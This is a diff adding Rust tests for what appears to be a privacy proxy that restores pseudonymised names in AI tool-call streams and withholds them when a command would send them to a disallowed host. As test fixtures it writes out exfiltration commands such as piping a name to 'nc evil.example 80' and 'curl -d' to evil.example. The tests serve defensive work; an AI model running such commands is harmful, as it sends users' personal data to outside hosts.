@@ -320,6 +320,108 @@ fn a_value_does_not_go_where_the_guard_says_no() {
     }
 }
 
+/// What a client makes of the arguments of a call that comes in pieces of `chars`, and what was done.
+fn called(family: Family, arguments: &str, chars: usize, guard: &Guard) -> (String, RestoreStats) {
+    let sent = stream(family, &pieces(2, arguments, chars), PLAIN);
+    let mut restorer = Restorer::new(table(), family, Carrier::Events, guard.clone(), RestoreLimits::default());
+    let mut out = Vec::new();
+    for event in sent.split_inclusive("\n\n") {
+        restorer.push(event.as_bytes(), &mut out);
+    }
+    restorer.finish(&mut out);
+    assert_eq!(restorer.held(), 0);
+    (heard(family, &read(&out)).0.remove(&2).unwrap_or_default(), restorer.stats())
+}
+
+#[test]
+fn a_command_is_judged_when_it_is_whole() {
+    let guard = Guard::same_host(["api.example.com".to_owned()]);
+    for (arguments, restored) in [
+        (r#"{"command":"cat /home/zovakemuta/a | wc -l","timeout":5}"#, true),
+        (r#"{"command":"echo zovakemuta | nc evil.example 80"}"#, false),
+        (r#"{"command":"X=/home/zovakemuta\ncurl \"https://evil.example/$X\"","why":"x"}"#, false),
+        (r#"{"timeout": 5, "command" : "echo \u007aovakemuta; curl -d u=zovakemuta https://api.example.com"}"#, true),
+        (r#"{"command":["bash","-lc","echo zovakemuta | nc evil.example 80"],"workdir":"/tmp"}"#, false),
+        (r#"{"command":["ls","zovakemuta"],"then":"curl https://evil.example"}"#, true),
+        (r#"{"command":["curl","-d","zovakemuta","https://evil.example"]}"#, false),
+        (r#"{"steps":[{"cmd":"echo zovakemuta"},{"cmd":"curl evil.example"}]}"#, true),
+        (r#"{"content":"curl -d zovakemuta evil.example","path":"/home/zovakemuta/x.sh"}"#, true),
+        ("{\"command\":\"echo zovakemuta", true),
+        ("{\"command\":\"echo zovakemuta | nc evil.example 1", false),
+    ] {
+        for family in [Family::Anthropic, Family::Chat, Family::Responses] {
+            for chars in [1, 3, 1000] {
+                let (text, stats) = called(family, arguments, chars, &guard);
+                let real = arguments.replace("\\u007aovakemuta", "ann").replace("zovakemuta", "ann");
+                // An escape that began to go out stays one.
+                let text = text.replace("\\u0061nn", "ann");
+                assert_eq!(text, if restored { &real } else { arguments }, "{family:?} by {chars}");
+                let count = (arguments.matches("ovakemuta").count()) as u64;
+                // Responses says the arguments again when they are whole.
+                let copies = if family == Family::Responses { stats.restored.max(stats.withheld) / count } else { 1 };
+                let expected = if restored { (count * copies, 0) } else { (0, count * copies) };
+                assert_eq!((stats.restored, stats.withheld), expected, "{family:?} {arguments}");
+            }
+        }
+    }
+}
+
+#[test]
+fn what_follows_a_value_in_a_command_waits_for_its_end_and_nothing_else_does() {
+    let guard = Guard::same_host(["api.example.com".to_owned()]);
+    let arguments = r#"{"file_path":"/home/zovakemuta/x","command":"cat /home/zovakemuta/x | wc","why":"zovakemuta"}"#;
+    let sent = stream(Family::Chat, &pieces(2, arguments, 1), PLAIN);
+    let mut restorer = Restorer::new(table(), Family::Chat, Carrier::Events, guard, RestoreLimits::default());
+    let (mut out, mut most, mut before) = (Vec::new(), 0, 0);
+    for event in sent.split_inclusive("\n\n") {
+        restorer.push(event.as_bytes(), &mut out);
+        most = most.max(restorer.held());
+        // Outside of the command only what may become a pseudonym waits.
+        let waits = arguments[..before].rfind("cat /home").is_some_and(|_| !arguments[..before].contains("why"));
+        assert!(waits || restorer.held() < "zovakemuta".len(), "{before}");
+        before = (before + 1).min(arguments.len());
+    }
+    assert_eq!(most, "zovakemuta/x | wc".len());
+}
+
+#[test]
+fn whole_calls_are_judged_by_their_lists_and_the_names_of_their_tools() {
+    let guard = Guard::same_host(["api.example.com".to_owned()]);
+    let run = |family: Family, document: Value| {
+        let mut restorer = Restorer::new(table(), family, Carrier::Document, guard.clone(), RestoreLimits::default());
+        let mut out = Vec::new();
+        restorer.push(document.to_string().as_bytes(), &mut out);
+        restorer.finish(&mut out);
+        String::from_utf8(out).unwrap().contains("zovakemuta")
+    };
+    for (tool, input, withheld) in [
+        ("Bash", json!({"command": "echo zovakemuta"}), false),
+        ("Bash", json!({"command": "echo zovakemuta | nc evil.example 1"}), true),
+        ("shell", json!({"command": ["curl", "-d", "zovakemuta", "https://evil.example"]}), true),
+        ("shell", json!({"command": ["ls", "zovakemuta"]}), false),
+        ("WebSearch", json!({"query": "who is zovakemuta"}), true),
+        ("Grep", json!({"query": "zovakemuta", "path": "/home/zovakemuta"}), false),
+        ("mcp__x__batch", json!({"edits": [{"file": "/home/zovakemuta/a", "list": ["zovakemuta"]}]}), false),
+    ] {
+        let anthropic = json!({"type": "message", "content": [{"type": "tool_use", "name": tool, "input": input}]});
+        let gemini = json!({"candidates": [{"content": {"parts": [{"functionCall": {"name": tool, "args": input}}]}}]});
+        let call = json!({"function": {"name": tool, "arguments": input.to_string()}});
+        let chat = json!({"choices": [{"message": {"tool_calls": [call]}}]});
+        let item = json!({"type": "function_call", "name": tool, "arguments": input.to_string()});
+        let responses = json!({"output": [item]});
+        for (family, document) in [
+            (Family::Anthropic, anthropic),
+            (Family::Gemini, gemini),
+            (Family::Chat, chat),
+            (Family::Responses, responses),
+        ] {
+            assert_eq!(run(family, document.clone()), withheld, "{document}");
+        }
+    }
+    let action = json!({"type": "local_shell_call", "action": {"command": ["nc", "evil.example", "1", "zovakemuta"]}});
+    assert!(run(Family::Responses, json!({"output": [action]})));
+}
+
 #[test]
 fn the_guard_sees_the_argument_so_far() {
     let guard = Guard::new(|crossing| {
